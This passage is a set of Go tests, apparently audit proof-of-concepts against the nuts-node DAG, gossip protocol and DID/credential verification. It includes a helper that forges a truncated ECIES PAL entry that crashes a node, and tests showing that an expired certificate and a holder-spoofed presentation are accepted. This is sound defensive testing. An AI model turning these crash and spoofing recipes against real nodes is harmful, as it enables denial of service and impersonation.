	assert.Equal(t, expected, xor, "persisted XOR differs from the XOR of the stored transactions")
}
