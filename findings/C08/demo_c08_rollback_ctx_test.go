package dag

import (
	"context"
	"testing"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type demoCancelNotifier struct {
	Notifier
	cancel func()
}

func (d demoCancelNotifier) Save(tx stoabs.WriteTx, event Event) error { d.cancel(); return nil }
func (d demoCancelNotifier) Notify(event Event)                          {}
func (d demoCancelNotifier) Name() string                                { return "demo" }

// When the write transaction of Add is rolled back BECAUSE the caller's context was cancelled, the digests and the
// highest clock must still be reloaded from storage (the reload must not use the cancelled context).
func TestDemoC08_RollbackAfterContextCancelReloadsState(t *testing.T) {
	s := createState(t).(*state)
	ctx, cancel := context.WithCancel(context.Background())
	tx0, _, _ := CreateTestTransaction(1)
	require.NoError(t, s.Add(context.Background(), tx0, nil))
	s.notifiers.Store("demo", demoCancelNotifier{cancel: cancel})
	tx1, _, _ := CreateTestTransaction(2, tx0)

	err := s.Add(ctx, tx1, nil)

	require.Error(t, err)
	present, _ := s.IsPresent(context.Background(), tx1.Ref())
	require.False(t, present, "the transaction was rolled back")
	xor, clock := s.XOR(MaxLamportClock)
	assert.Equal(t, tx0.Ref(), xor, "XOR digest must only cover the stored transaction")
	assert.Equal(t, uint32(0), clock, "highest clock must be that of the stored transaction")
}
