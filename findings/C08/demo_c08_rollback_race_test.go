package dag

import (
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag/tree"
	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoRollbackHook is a logrus hook that is used as a synchronisation point only: it runs fn (once) at the moment the
// OnRollback callback of state.Add starts, which is AFTER the database write lock has been released by stoabs
// and BEFORE the in-memory trees are reloaded.
type demoRollbackHook struct {
	once sync.Once
	fn   func()
}

func (h *demoRollbackHook) Levels() []logrus.Level { return []logrus.Level{logrus.WarnLevel} }
func (h *demoRollbackHook) Fire(e *logrus.Entry) error {
	if strings.HasPrefix(e.Message, "Reloading the XOR and IBLT trees") {
		h.once.Do(h.fn)
	}
	return nil
}

// TestDemoC08_ConcurrentAddDuringRollback: Add(A) is rolled back (commit refused), Add(B) of another goroutine gets the
// write lock before A's OnRollback callback has reloaded the trees. B is inserted in the in-memory trees that still
// contain A, and that page is persisted and committed. A's reload then reads back the page that contains A.
// Result: A is not stored, but is part of the XOR digest and IBLT, in memory and on disk.
func TestDemoC08_ConcurrentAddDuringRollback(t *testing.T) {
	s := createState(t).(*state)
	require.NoError(t, s.Configure(core.ServerConfig{}))
	bg := context.Background()

	root, _, _ := CreateTestTransaction(1)
	txA, _, _ := CreateTestTransaction(2, root)
	txB, _, _ := CreateTestTransaction(3, root)
	require.NoError(t, s.Add(bg, root, nil))

	// Add(A) is rolled back because its context gets cancelled while the write is in progress (stoabs refuses to commit).
	ctxA, cancelA := context.WithCancel(bg)
	ctrl := gomock.NewController(t)
	notifier := NewMockNotifier(ctrl)
	notifier.EXPECT().Save(gomock.Any(), gomock.Any()).DoAndReturn(func(_ stoabs.WriteTx, e Event) error {
		if e.Hash.Equals(txA.Ref()) {
			cancelA()
		}
		return nil
	}).AnyTimes()
	notifier.EXPECT().Notify(gomock.Any()).AnyTimes()
	s.notifiers.Store("demo", notifier)

	// The concurrent Add(B), scheduled between the release of the write lock of A and the reload of the trees.
	var errB error
	hook := &demoRollbackHook{fn: func() {
		done := make(chan struct{})
		go func() {
			defer close(done)
			errB = s.Add(bg, txB, nil)
		}()
		select {
		case <-done:
		case <-time.After(time.Second):
			// Add(B) can't run concurrently with the rollback of A (e.g. because that is prevented by a lock): fine,
			// it'll complete after A
			go func() { <-done }()
		}
	}}
	oldHooks := logrus.StandardLogger().ReplaceHooks(make(logrus.LevelHooks))
	logrus.StandardLogger().AddHook(hook)
	t.Cleanup(func() { logrus.StandardLogger().ReplaceHooks(oldHooks) })

	errA := s.Add(ctxA, txA, nil)
	require.Error(t, errA, "Add(A) must have been rolled back")
	// wait for B (quiescence)
	require.Eventually(t, func() bool {
		p, _ := s.IsPresent(bg, txB.Ref())
		return p
	}, 10*time.Second, 10*time.Millisecond)
	time.Sleep(50 * time.Millisecond)
	require.NoError(t, errB)

	// what is stored: root and B, not A
	txs, err := s.FindBetweenLC(bg, 0, MaxLamportClock)
	require.NoError(t, err)
	require.Len(t, txs, 2)
	expectedXor := hash.EmptyHash()
	expectedIblt := tree.NewIblt(IbltNumBuckets)
	for _, tx := range txs {
		require.False(t, tx.Ref().Equals(txA.Ref()))
		expectedXor = expectedXor.Xor(tx.Ref())
		expectedIblt.Insert(tx.Ref())
	}

	check := func(t *testing.T, st *state) {
		xor, clock := st.XOR(MaxLamportClock)
		assert.Equal(t, uint32(1), clock)
		assert.Equal(t, expectedXor, xor, "XOR digest must be that of the stored transactions (root, B)")
		assert.NotEqual(t, expectedXor.Xor(txA.Ref()), xor, "XOR digest contains A, which is not stored")
		iblt, _ := st.IBLT(MaxLamportClock)
		require.NoError(t, iblt.Subtract(expectedIblt))
		assert.True(t, iblt.Empty(), "IBLT must be that of the stored transactions (root, B)")
	}
	t.Run("in memory", func(t *testing.T) {
		check(t, s)
	})
	t.Run("after restart", func(t *testing.T) {
		s2, err := NewState(s.db)
		require.NoError(t, err)
		require.NoError(t, s2.Configure(core.ServerConfig{}))
		check(t, s2.(*state))
	})
}
