package dag

import (
	"context"
	"testing"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/core"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag/tree"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC08_RollbackOfFirstTransaction shows that a rolled-back write of the very first transaction (the trees
// have not been persisted yet) is not undone in the in-memory XOR/IBLT trees: tree.Load() is a no-op for an empty shelf.
// The retry of the same transaction is then inserted a second time, which makes the XOR digest of a DAG with 1 transaction
// the zero hash (in memory AND on disk), and gives the IBLT a count of 2 for the transaction.
func TestDemoC08_RollbackOfFirstTransaction(t *testing.T) {
	s := createState(t).(*state)
	require.NoError(t, s.Configure(core.ServerConfig{}))

	root, _, _ := CreateTestTransaction(1)

	// The write transaction is rolled back because the caller's context is cancelled while the write is in progress
	// (stoabs refuses to commit then). The cancellation is triggered from Notifier.Save for determinism.
	ctx, cancel := context.WithCancel(context.Background())
	ctrl := gomock.NewController(t)
	notifier := NewMockNotifier(ctrl)
	notifier.EXPECT().Save(gomock.Any(), gomock.Any()).DoAndReturn(func(_ stoabs.WriteTx, _ Event) error {
		cancel()
		return nil
	})
	s.notifiers.Store("demo", notifier)

	err := s.Add(ctx, root, nil)
	require.Error(t, err, "write must have been rolled back")
	s.notifiers.Delete("demo")

	// nothing is stored
	present, err := s.IsPresent(context.Background(), root.Ref())
	require.NoError(t, err)
	require.False(t, present)
	txs, err := s.FindBetweenLC(context.Background(), 0, MaxLamportClock)
	require.NoError(t, err)
	require.Empty(t, txs)

	// ... so the digest of the empty DAG must be the empty hash, and the IBLT empty
	xor, _ := s.XOR(MaxLamportClock)
	iblt, _ := s.IBLT(MaxLamportClock)
	assert.Equal(t, hash.EmptyHash(), xor, "XOR after rolled-back write of the first transaction")
	assert.True(t, iblt.Empty(), "IBLT after rolled-back write of the first transaction")

	// The caller retries: now the transaction is stored
	require.NoError(t, s.Add(context.Background(), root, nil))
	present, _ = s.IsPresent(context.Background(), root.Ref())
	require.True(t, present)

	expectedIblt := tree.NewIblt(IbltNumBuckets)
	expectedIblt.Insert(root.Ref())
	xor, _ = s.XOR(MaxLamportClock)
	iblt, _ = s.IBLT(MaxLamportClock)
	assert.Equal(t, root.Ref(), xor, "XOR of a DAG with just the root transaction")
	require.NoError(t, iblt.Subtract(expectedIblt))
	assert.True(t, iblt.Empty(), "IBLT of a DAG with just the root transaction (difference with expected IBLT is not empty)")

	// and it is persisted like that: a 'restart' (new state on the same DB) yields the same wrong values
	s2, err := NewState(s.db)
	require.NoError(t, err)
	require.NoError(t, s2.Configure(core.ServerConfig{}))
	xor, _ = s2.XOR(MaxLamportClock)
	assert.Equal(t, root.Ref(), xor, "XOR after restart")
}
