package v2

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoCraftPALEntry builds a PAL entry (ECIES cipher text) for the given (public!) keyAgreement key of a node:
//
//	R (ephemeral public key, 65 bytes) || em (encrypted message) || HMAC tag (32 bytes)
//
// A regular ECIES cipher text has an em of at least 17 bytes (16 bytes IV + the message). This one has an em of emLen bytes.
// Anybody can compute a valid tag for it: it only takes the public key of the recipient (which is in its DID document).
func demoCraftPALEntry(t *testing.T, recipient *ecdsa.PublicKey, emLen int) []byte {
	curve := elliptic.P256()
	require.Equal(t, curve, recipient.Curve)
	ephemeral, err := ecdsa.GenerateKey(curve, rand.Reader)
	require.NoError(t, err)
	// ECDH
	x, _ := curve.ScalarMult(recipient.X, recipient.Y, ephemeral.D.Bytes())
	z := make([]byte, 32)
	x.FillBytes(z)
	// NIST SP 800-56 concatenation KDF (SHA-256, 32 bytes needed, so 1 round), as ECIES_AES128_SHA256 does it
	h := sha256.New()
	h.Write([]byte{0, 0, 0, 1})
	h.Write(z)
	k := h.Sum(nil)
	km := sha256.Sum256(k[16:32])
	// "encrypted message", shorter than the IV of the block cipher
	em := make([]byte, emLen)
	mac := hmac.New(sha256.New, km[:])
	mac.Write(em)
	tag := mac.Sum(nil)

	result := elliptic.Marshal(curve, ephemeral.X, ephemeral.Y)
	result = append(result, em...)
	result = append(result, tag...)
	return result
}

// TestDemo_TruncatedPALCipherText shows that a PAL entry that is too short to contain an IV, but carries a valid tag,
// makes the node panic while it decrypts the PAL. None of the goroutines that decrypt a PAL recover from a panic
// (handleASync for a TransactionPayloadQuery, the 'private' notifier for handlePrivateTxRetry), so the process dies.
// The property demands that a peer that asks for the payload of a transaction whose PAL can't be decrypted
// gets an empty response, and that a transaction whose PAL can't be decrypted is simply "not for us".
func TestDemo_TruncatedPALCipherText(t *testing.T) {
	ctx := context.Background()
	payload := []byte("Hello, World!")

	// The node's keyAgreement key, in a real key store
	keyID, _ := did.ParseDIDURL("did:nuts:node#key1")
	keyStore := crypto.NewMemoryCryptoInstance(t)
	_, publicKey, err := keyStore.New(audit.TestContext(), crypto.StringNamingFunc(keyID.String()))
	require.NoError(t, err)
	didDocument := did.Document{
		KeyAgreement: []did.VerificationRelationship{
			{VerificationMethod: &did.VerificationMethod{ID: *keyID}},
		},
	}

	// sanity check: the crafted entry is built the way the ECIES library expects it: with room for an IV it decrypts fine
	t.Run("sanity check: crafted entry with room for IV decrypts", func(t *testing.T) {
		_, err := keyStore.Decrypt(ctx, keyID.String(), demoCraftPALEntry(t, publicKey.(*ecdsa.PublicKey), 17))
		require.NoError(t, err)
	})

	// The attacker's transaction: private, with 1 PAL entry of R || 1 byte || valid tag
	palEntry := demoCraftPALEntry(t, publicKey.(*ecdsa.PublicKey), 1)
	tx, _, _ := dag.CreateTestTransactionEx(0, hash.SHA256Sum(payload), [][]byte{palEntry})

	t.Run("TransactionPayloadQuery from an authenticated peer", func(t *testing.T) {
		p, mocks := newTestProtocol(t, nodeDID)
		p.decrypter = keyStore
		mocks.State.EXPECT().GetTransaction(gomock.Any(), tx.Ref()).Return(tx, nil)
		mocks.DIDResolver.EXPECT().Resolve(*nodeDID, nil).Return(&didDocument, nil, nil)
		conns := grpc.NewStubConnectionList(authenticatedPeer)
		p.connectionList = conns

		var recovered interface{}
		func() {
			defer func() {
				recovered = recover()
			}()
			err = p.handleTransactionPayloadQuery(ctx, conns.Conn, &Envelope{Message: &Envelope_TransactionPayloadQuery{&TransactionPayloadQuery{TransactionRef: tx.Ref().Slice()}}})
		}()

		require.Nil(t, recovered, "handleTransactionPayloadQuery panicked (it runs in a goroutine that does not recover: the node crashes)")
		assert.NoError(t, err)
		require.Len(t, conns.Conn.SentMsgs, 1)
		assertEmptyPayloadResponse(t, tx, conns.Conn.SentMsgs[0])
	})

	t.Run("transaction arrives on the DAG (handlePrivateTxRetry)", func(t *testing.T) {
		p, mocks := newTestProtocol(t, nodeDID)
		p.decrypter = keyStore
		mocks.State.EXPECT().IsPayloadPresent(gomock.Any(), tx.PayloadHash()).Return(false, nil)
		mocks.DIDResolver.EXPECT().Resolve(*nodeDID, nil).Return(&didDocument, nil, nil)

		var recovered interface{}
		var finished bool
		func() {
			defer func() {
				recovered = recover()
			}()
			finished, err = p.handlePrivateTxRetry(ctx, dag.Event{Type: dag.TransactionEventType, Hash: tx.Ref(), Transaction: tx})
		}()

		require.Nil(t, recovered, "handlePrivateTxRetry panicked (it runs in the notifier's goroutine, which does not recover: the node crashes, and again after every restart because the event is persisted)")
		// PAL can't be decrypted: not for us
		assert.NoError(t, err)
		assert.True(t, finished)
	})
}
