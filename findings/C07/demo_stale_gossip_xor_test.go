package v2

import (
	"context"
	"encoding/binary"
	"fmt"
	"path"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
)

// demoSchedulingState is the real dag.State. The only thing it adds is a scheduling point: it lets the test decide
// what other goroutines do between the moment protocol.gossipTransaction has read the XOR and the moment it hands that XOR to
// the gossip manager (in production: a goroutine that is preempted between those two statements).
type demoSchedulingState struct {
	dag.State
	afterXORInGossipTransaction atomic.Pointer[func()]
}

func (s *demoSchedulingState) XOR(reqClock uint32) (hash.SHA256Hash, uint32) {
	xor, clock := s.State.XOR(reqClock) // the real read
	if pc, _, _, ok := runtime.Caller(1); ok && strings.HasSuffix(runtime.FuncForPC(pc).Name(), "gossipTransaction") {
		if hook := s.afterXORInGossipTransaction.Swap(nil); hook != nil {
			(*hook)()
		}
	}
	return xor, clock
}

type demoNode struct {
	protocol          *protocol
	state             *demoSchedulingState
	connectionManager transport.ConnectionManager
}

// startDemoNode is startNode() of protocol_integration_test.go, with the state wrapped in demoSchedulingState
// (and with the prevs/lamport clock verifier enabled, as in production).
func startDemoNode(t *testing.T, name string, gossipIntervalMs int) *demoNode {
	didResolver := didstore.NewTestStore(t)
	var keyStore nutsCrypto.KeyStore
	testDirectory := path.Join(io.TestDirectory(t), name)

	storageClient := storage.NewTestStorageEngine(t)
	bboltStore, err := storageClient.GetProvider("network").GetKVStore("data", storage.PersistentStorageClass)
	require.NoError(t, err)

	realState, err := dag.NewState(bboltStore, dag.NewPrevTransactionsVerifier())
	require.NoError(t, err)
	node := &demoNode{state: &demoSchedulingState{State: realState}}
	require.NoError(t, node.state.Start())

	cfg := Config{GossipInterval: gossipIntervalMs, Datadir: testDirectory}
	peerID := transport.PeerID(name)
	listenAddress := fmt.Sprintf("localhost:%d", nameToPort(name))
	node.protocol = New(cfg, did.DID{}, node.state, didResolver, keyStore, nil, bboltStore).(*protocol)

	authenticator := grpc.NewTLSAuthenticator(resolver.DIDServiceResolver{Resolver: didResolver})
	connectionsStore, _ := storageClient.GetProvider("network").GetKVStore("connections", storage.VolatileStorageClass)
	grpcCfg, err := grpc.NewConfig(listenAddress, peerID)
	require.NoError(t, err)
	node.connectionManager, err = grpc.NewGRPCConnectionManager(grpcCfg, connectionsStore, did.DID{}, authenticator, node.protocol)
	require.NoError(t, err)

	require.NoError(t, node.protocol.Configure(peerID))
	require.NoError(t, node.connectionManager.Start())
	require.NoError(t, node.protocol.Start())
	t.Cleanup(func() {
		_ = node.state.Shutdown()
		node.protocol.Stop()
		node.connectionManager.Stop()
	})
	return node
}

func demoPayload(num uint32) []byte {
	payload := make([]byte, 4)
	binary.BigEndian.PutUint32(payload, num)
	return payload
}

// TestDemo_StaleGossipXORPreventsConvergence shows that two connected nodes do NOT converge to the union of their DAGs:
//
// Node A receives T1 from node B and, at the same time, creates T2 itself (e.g. through its API). Both additions end in
// protocol.gossipTransaction, which (1) reads the XOR of the DAG and (2) gives it, with the TX ref, to the gossip manager.
// These 2 steps are not atomic. Schedule: [T1: step 1] [T2: step 1, step 2] [T1: step 2].
// The gossip manager is then left with XOR(root,T1) - without T2 - and keeps gossiping that value, round after round,
// until some other transaction is added. XOR(root,T1) is exactly B's XOR, so B concludes that it is in sync with A
// and never looks at the advertised ref T2, and A (which sees that B differs) only learns that B "is behind".
// No message is lost, delayed or reordered.
func TestDemo_StaleGossipXORPreventsConvergence(t *testing.T) {
	const gossipInterval = 100 // ms
	ctx := context.Background()
	nodeA := startDemoNode(t, "demo_stale_xor_A", gossipInterval)
	nodeB := startDemoNode(t, "demo_stale_xor_B", gossipInterval)

	// both DAGs share the same root
	root, _, _ := dag.CreateTestTransaction(1)
	require.NoError(t, nodeA.state.Add(ctx, root, demoPayload(1)))
	require.NoError(t, nodeB.state.Add(ctx, root, demoPayload(1)))

	nodeB.connectionManager.Connect(nameToAddress("demo_stale_xor_A"), did.DID{}, nil)
	require.True(t, test.WaitFor(t, func() (bool, error) {
		return len(nodeA.connectionManager.Peers()) == 1 && len(nodeB.connectionManager.Peers()) == 1, nil
	}, integrationTestTimeout, "time-out while waiting for the nodes to connect"))

	t1, _, _ := dag.CreateTestTransaction(2, root)
	t2, _, _ := dag.CreateTestTransaction(3, t1)

	// The schedule: when A's gossipTransaction(T1) has read the XOR, A's other goroutine adds T2 (completely, including
	// its own gossipTransaction(T2)), and only then gossipTransaction(T1) continues.
	var t2Added sync.WaitGroup
	t2Added.Add(1)
	hook := func() {
		done := make(chan struct{})
		go func() {
			defer close(done)
			defer t2Added.Done()
			if err := nodeA.state.Add(ctx, t2, demoPayload(3)); err != nil {
				t.Errorf("adding T2 on node A: %v", err)
			}
		}()
		select {
		case <-done:
		case <-time.After(2 * time.Second):
			// (the other goroutine could not run in between: fine, then this schedule is impossible)
		}
	}
	nodeA.state.afterXORInGossipTransaction.Store(&hook)

	// B creates T1; A learns it through the protocol (Gossip -> TransactionListQuery -> TransactionList)
	require.NoError(t, nodeB.state.Add(ctx, t1, demoPayload(2)))
	t2Added.Wait()
	require.True(t, test.WaitFor(t, func() (bool, error) {
		return nodeA.state.IsPresent(ctx, t1.Ref())
	}, integrationTestTimeout, "A did not receive T1"))
	present, err := nodeA.state.IsPresent(ctx, t2.Ref())
	require.NoError(t, err)
	require.True(t, present, "A must have T2")

	// The nodes stay connected and nothing is lost. Give them 50 gossip rounds (B needs 1 round trip).
	converged := test.WaitForNoFail(t, func() (bool, error) {
		return nodeB.state.IsPresent(ctx, t2.Ref())
	}, 50*gossipInterval*time.Millisecond)

	xorA, _ := nodeA.state.State.XOR(dag.MaxLamportClock)
	xorB, _ := nodeB.state.State.XOR(dag.MaxLamportClock)
	if !converged {
		t.Fatalf("nodes did not converge to the union of their DAGs after 50 gossip rounds: B never received T2 (%s)\n"+
			"XOR of A's DAG: %s\nXOR of B's DAG: %s", t2.Ref(), xorA, xorB)
	}
	require.Equal(t, xorA, xorB)
}
