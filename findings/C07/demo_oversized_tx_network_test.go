package network

import (
	"testing"

	"github.com/nuts-foundation/nuts-node/audit"
	"github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemo_CreateTransactionThatCanNeverBeReplicated: the node happily creates (and adds to its own DAG) a transaction that
// cannot be carried by any protocol message (see network/transport/v2/demo_oversized_tx_test.go for what happens next).
func TestDemo_CreateTransactionThatCanNeverBeReplicated(t *testing.T) {
	ctx := audit.TestContext()
	ctrl := gomock.NewController(t)
	payload := make([]byte, grpc.MaxMessageSizeInBytes+1)
	cxt := createNetwork(t, ctrl)
	require.NoError(t, cxt.start())
	_, key, _ := cxt.keyStore.New(audit.TestContext(), crypto.StringNamingFunc("signing-key"))
	cxt.state.EXPECT().Head(gomock.Any())
	added := false
	cxt.state.EXPECT().Add(gomock.Any(), gomock.Any(), gomock.Any()).DoAndReturn(func(_ interface{}, _ dag.Transaction, _ []byte) error {
		added = true
		return nil
	}).AnyTimes()

	_, err := cxt.network.CreateTransaction(ctx, TransactionTemplate(payloadType, payload, "signing-key").WithAttachKey(key))

	assert.Error(t, err, "a transaction that does not fit in a protocol message must be refused")
	assert.False(t, added, "a transaction that does not fit in a protocol message must not be added to the DAG")
}
