package didx509

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"fmt"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/cert"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/pki"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// demoResolveExpired resolves the did:x509 DID of (ca, san:otherName:<otherName>) with the given x5c chain and signing certificate.
// The CRL/denylist check (pki.Validator) is mocked and always succeeds.
func demoResolveExpired(t *testing.T, ca *x509.Certificate, otherName string, signingCert *x509.Certificate, resolveTime *time.Time, pems ...[]byte) (*did.Document, error) {
	ctrl := gomock.NewController(t)
	validator := pki.NewMockValidator(ctrl)
	validator.EXPECT().ValidateStrict(gomock.Any()).AnyTimes().Return(nil) // (mocks CheckCRLStrict)

	chain := &cert.Chain{}
	for _, p := range pems {
		require.NoError(t, chain.Add(p))
	}
	metadata := resolver.ResolveMetadata{
		ResolveTime: resolveTime,
		JwtProtectedHeaders: map[string]interface{}{
			X509CertChainHeader:          chain,
			X509CertThumbprintS256Header: sha256Sum(signingCert.Raw),
		},
	}
	id := did.MustParseDID(fmt.Sprintf("did:x509:0:sha256:%s::san:otherName:%s", sha256Sum(ca.Raw), otherName))
	doc, _, err := NewResolver(validator).Resolve(id, &metadata)
	return doc, err
}

// TestDemoC01_ExpiredCertificate shows that a did:x509 DID resolves (and so credentials/presentations signed with the certificate's key verify)
// although the signing certificate is expired at the validation time.
func TestDemoC01_ExpiredCertificate(t *testing.T) {
	// CA certificate, valid from 3 days ago until next month
	caKey, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	caTmpl, err := CertTemplate(nil)
	require.NoError(t, err)
	caTmpl.NotBefore = time.Now().Add(-72 * time.Hour)
	caCert, caPEM, err := CreateCert(caTmpl, caTmpl, &caKey.PublicKey, caKey)
	require.NoError(t, err)

	// signing certificate that expired yesterday
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	require.NoError(t, err)
	tmpl, err := SigningCertTemplate(nil, []string{"SUBJECT"})
	require.NoError(t, err)
	tmpl.NotBefore = time.Now().Add(-48 * time.Hour)
	tmpl.NotAfter = time.Now().Add(-24 * time.Hour)
	expiredCert, expiredPEM, err := CreateCert(tmpl, caCert, &key.PublicKey, caKey)
	require.NoError(t, err)

	t.Run("validation time is now (ResolveTime not set)", func(t *testing.T) {
		_, err = demoResolveExpired(t, caCert, "SUBJECT", expiredCert, nil, caPEM, expiredPEM)
		assert.Error(t, err, "did:x509 resolved with a signing certificate that expired 24 hours ago")
	})
	t.Run("validation time is given", func(t *testing.T) {
		now := time.Now()
		_, err = demoResolveExpired(t, caCert, "SUBJECT", expiredCert, &now, caPEM, expiredPEM)
		assert.Error(t, err, "did:x509 resolved with a signing certificate that expired 24 hours before the validation time")
	})
	t.Run("sanity check: resolves at a time within the certificate's validity", func(t *testing.T) {
		at := time.Now().Add(-36 * time.Hour)
		_, err = demoResolveExpired(t, caCert, "SUBJECT", expiredCert, &at, caPEM, expiredPEM)
		assert.NoError(t, err)
	})
}
