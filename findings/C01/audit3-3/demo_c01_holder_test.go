package verifier

import (
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vcr/test"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC01_HolderOfCredentiallessPresentationNotAuthenticated shows that a presentation without credentials that names
// the victim as its holder (JWT: the 'iss' claim), but is signed with a key of the attacker's DID, is reported as valid.
func TestDemoC01_HolderOfCredentiallessPresentationNotAuthenticated(t *testing.T) {
	attacker := did.MustParseDID("did:web:attacker.example.com")
	victim := did.MustParseDID("did:web:victim.example.com")

	// JWT presentation, signed by attacker (kid=did:web:attacker.example.com#1), claiming to be issued by (held by) victim
	presentation, attackerKey := test.CreateJWTPresentation(t, attacker, func(token jwt.Token) {
		require.NoError(t, token.Set(jwt.IssuerKey, victim.String()))
		require.NoError(t, token.Set(jwt.SubjectKey, victim.String()))
	})
	require.NotNil(t, presentation.Holder)
	require.Equal(t, victim.String(), presentation.Holder.String(), "the presentation claims the victim as holder")

	ctx := newMockContext(t)
	// only the attacker's key is ever resolved
	ctx.keyResolver.EXPECT().ResolveKeyByID(attacker.String()+"#1", gomock.Any(), resolver.NutsSigningKeyType).Return(attackerKey, nil).AnyTimes()

	_, err := ctx.verifier.VerifyVP(presentation, true, true, nil)

	assert.Error(t, err, "presentation of holder %s verified, although it was signed by a key of %s", presentation.Holder, attacker)
}
