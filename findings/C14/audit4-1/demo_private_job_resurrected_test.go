package v2

import (
	"context"
	"path"
	"sync/atomic"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/network/transport"
	"github.com/nuts-foundation/nuts-node/network/transport/grpc"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// Production flow (real dag.State, real notifier, real protocol handlers, bbolt): a private transaction is admitted, the
// "private" subscriber queries the participant for the payload, and the participant's TransactionPayload response is handled
// (payload written, privatePayloadReceiver.Finished(ref) called: completion recorded) before the notifier records the outcome
// of the delivery attempt that sent the query. In production the response is handled on another goroutine while notifyNow
// waits for the DB write lock; here the mock connection handles it synchronously to make the interleaving deterministic.
func TestDemo_PrivatePayloadJobResurrectedAfterFinished(t *testing.T) {
	ctx := context.Background()
	ctrl := gomock.NewController(t)
	testDID := did.MustParseDID("did:nuts:123")
	keyID := did.MustParseDIDURL("did:nuts:123#key1")
	participant := did.MustParseDID("did:nuts:peer")

	dagStore := storage.CreateTestBBoltStore(t, path.Join(io.TestDirectory(t), "dag.db"))
	state, err := dag.NewState(dagStore)
	require.NoError(t, err)

	didResolver := resolver.NewMockDIDResolver(ctrl)
	didResolver.EXPECT().Resolve(testDID, nil).Return(&did.Document{
		KeyAgreement: []did.VerificationRelationship{{VerificationMethod: &did.VerificationMethod{ID: keyID}}},
	}, nil, nil).AnyTimes()
	decrypter := crypto.NewMockDecrypter(ctrl)
	decrypter.EXPECT().Decrypt(gomock.Any(), keyID.String(), []byte{1}).Return([]byte(participant.String()), nil).AnyTimes()

	cfg := DefaultConfig()
	cfg.PayloadRetryDelay = 10 * time.Millisecond
	countingState := &payloadPresentCounter{State: state}
	proto := New(cfg, testDID, countingState, didResolver, decrypter, nil, dagStore).(*protocol)
	require.NoError(t, proto.Configure(transport.PeerID("local")))
	defer proto.cancel()

	payload := []byte("private payload")
	tx, _, _ := dag.CreateTestTransactionEx(1, hash.SHA256Sum(payload), dag.EncryptedPAL{{1}})

	var queries atomic.Int64
	conn := grpc.NewMockConnection(ctrl)
	conn.EXPECT().Peer().Return(transport.Peer{ID: "peer", NodeDID: participant, Authenticated: true}).AnyTimes()
	conn.EXPECT().Send(proto, gomock.Any(), false).DoAndReturn(func(_ transport.Protocol, envelope interface{}, _ bool) error {
		queries.Add(1)
		query := envelope.(*Envelope).GetTransactionPayloadQuery()
		require.NotNil(t, query)
		// the participant answers; the node handles the answer
		return proto.handleTransactionPayload(ctx, conn, &Envelope{Message: &Envelope_TransactionPayload{
			TransactionPayload: &TransactionPayload{TransactionRef: query.TransactionRef, Data: payload},
		}})
	}).AnyTimes()
	connectionList := grpc.NewMockConnectionList(ctrl)
	connectionList.EXPECT().Get(gomock.Any()).Return(conn).AnyTimes()
	proto.connectionList = connectionList

	// admit the private transaction (payload unknown): job saved in the admission TX, subscriber notified after commit
	require.NoError(t, state.Add(ctx, tx, nil))

	require.Equal(t, int64(1), queries.Load())
